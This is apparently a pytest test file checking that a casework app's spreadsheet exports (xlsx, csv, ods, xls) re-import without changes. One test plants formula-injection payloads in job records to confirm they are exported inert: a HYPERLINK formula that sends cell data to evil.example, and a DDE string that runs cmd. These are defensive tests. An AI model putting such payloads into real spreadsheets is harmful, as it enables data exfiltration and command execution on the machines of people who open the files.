"""Export a site, import the export: nothing changes (xlsx, csv, ods and xls)."""

import pytest

from ipsworks.audit.models import AuditEvent
from ipsworks.caseload.models import Activity, Episode, Job, ServiceUser
from ipsworks.returns.services import run_return

from .conftest import MONTH
from .helpers import export


def totals():
    return (
        ServiceUser.objects.count(),
        Episode.objects.count(),
        Job.objects.count(),
        Activity.objects.count(),
        sorted(Episode.objects.values_list("version", flat=True)),
        sorted(Job.objects.values_list("version", flat=True)),
    )


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "ods", "xls"])
def test_exporting_then_importing_the_export_changes_nothing(populated, im, tmp_path, fmt):
    files = export(im, populated, MONTH, tmp_path, fmt)
    before = totals()
    report = run_return(
        actor=im,
        site=populated,
        month=MONTH,
        files=[(p.name, p) for p in files],
        apply=True,
        sha256="x",
    )
    assert report.errors == []
    assert report.total_changes == 0, report.changes
    assert report.counts["Caseload"]["unchanged"] == 6
    assert report.counts["Jobs"]["unchanged"] == 2
    assert totals() == before
    assert AuditEvent.objects.filter(event="returns.applied", entity="returns.ReturnFile").exists()


def test_csv_files_in_a_zip_and_uploaded_separately_both_round_trip(populated, im, tmp_path):
    import zipfile

    files = export(im, populated, MONTH, tmp_path, "csv")
    archive = tmp_path / "return.zip"
    with zipfile.ZipFile(archive, "w") as z:
        for path in files:
            z.write(path, path.name)
    for upload in ([(archive.name, archive)], [(p.name, p) for p in files]):
        report = run_return(
            actor=im, site=populated, month=MONTH, files=upload, apply=True, sha256="z"
        )
        assert report.errors == [] and report.total_changes == 0
        assert report.counts["Jobs"]["unchanged"] == 2


def test_two_files_for_the_same_sheet_are_refused(populated, im, tmp_path):
    files = export(im, populated, MONTH, tmp_path, "csv")
    copy = tmp_path / "caseload-copy.csv"
    copy.write_bytes(files[0].read_bytes())
    report = run_return(
        actor=im,
        site=populated,
        month=MONTH,
        files=[(files[0].name, files[0]), (copy.name, copy)],
        apply=False,
    )
    assert report.error_count == 1 and "look like the Caseload sheet" in report.errors[0]


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "ods", "xls"])
def test_formula_like_text_is_exported_inert_and_round_trips(populated, im, tmp_path, fmt):
    job = Job.objects.filter(site=populated).order_by("pk").first()
    Job.objects.filter(pk=job.pk).update(
        employer='=HYPERLINK("http://evil.example/?x="&A2,"Click")',
        job_title="+cmd|' /C calc'!A0",
    )
    files = export(im, populated, MONTH, tmp_path, fmt)
    if fmt == "xlsx":
        import openpyxl

        cells = [c for row in openpyxl.load_workbook(files[0])["Jobs"].iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula
        assert '\'=HYPERLINK("http://evil.example/?x="&A2,"Click")' in [c.value for c in cells]
    if fmt == "csv":
        jobs = next(p for p in files if p.name == "jobs.csv").read_text(encoding="utf-8-sig")
        assert "'+cmd|" in jobs and ",=HYPERLINK" not in jobs
    report = run_return(
        actor=im,
        site=populated,
        month=MONTH,
        files=[(p.name, p) for p in files],
        apply=True,
        sha256="f",
    )
    assert report.errors == [] and report.total_changes == 0, report.changes
    job.refresh_from_db()
    assert job.employer.startswith("=HYPERLINK") and job.job_title.startswith("+cmd")


def test_a_control_character_in_a_record_does_not_break_the_xlsx_export(populated, im, tmp_path):
    Job.objects.filter(site=populated).update(employer="Acme\x01Ltd")
    files = export(im, populated, MONTH, tmp_path, "xlsx")
    import openpyxl

    values = [c.value for row in openpyxl.load_workbook(files[0])["Jobs"].iter_rows() for c in row]
    assert "AcmeLtd" in values
